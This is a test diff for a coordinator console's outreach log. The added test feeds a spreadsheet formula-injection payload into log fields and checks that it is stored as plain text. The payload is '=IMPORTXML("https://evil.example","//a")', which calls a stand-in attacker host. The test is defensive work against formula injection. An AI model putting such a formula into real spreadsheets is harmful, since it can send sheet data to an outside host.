@@ -1,5 +1,6 @@
 import { describe, expect, it, vi } from 'vitest';
 import type { StoredEvent } from '../../../shared/ledger/event-catalogue.ts';
+import { ledgerTabTitle } from '../../../shared/ledger/layout/index.ts';
 import { addMember } from '../../support/ledger-fixture.ts';
 import { consoleFixture } from './console-fixture.ts';
 import { ATLANTIC_SESSION } from './console-outreach-seed.ts';
@@ -75,6 +76,18 @@ describe('console outreach log (R22)', () => {
     ]);
     expect(outreachEvents(f.events(me))).toEqual([]);
     expect(f.logRows().length).toBeLessThanOrEqual(1); // the header only
+  });
+
+  it('stores what a coordinator typed as text, never a formula, in the log and in the Outreach tab', async () => {
+    const f = await consoleFixture();
+    f.issueMe();
+    const hostile = '=IMPORTXML("https://evil.example","//a")';
+    expect(f.call('consoleLogOutreach', { ...ATLANTIC_SESSION, targetGroup: hostile, organisations: `+1 555\n${hostile}`, notes: '@notes' })).toMatchObject({ ok: true });
+    expect(JSON.stringify(f.world.store.state)).not.toMatch(/"formula"/);
+    const [activity] = f.call<{ outreach: Array<{ targetGroup: string; organisations: string[]; notes: string }> }>('consoleState').outreach;
+    expect(activity).toMatchObject({ targetGroup: hostile, organisations: ['+1 555', hostile], notes: '@notes' });
+    const tab = (f.world.globals.Sheets.Spreadsheets.Values.get(f.world.store.state.spreadsheetId, `'${ledgerTabTitle('outreach')}'`).values ?? []) as string[][];
+    expect(tab.flat().filter((cell) => String(cell).includes('IMPORTXML'))).toHaveLength(1);
   });
 
   it('is refused to a member who is not the linked coordinator, and to an editor who is not the owner', async () => {
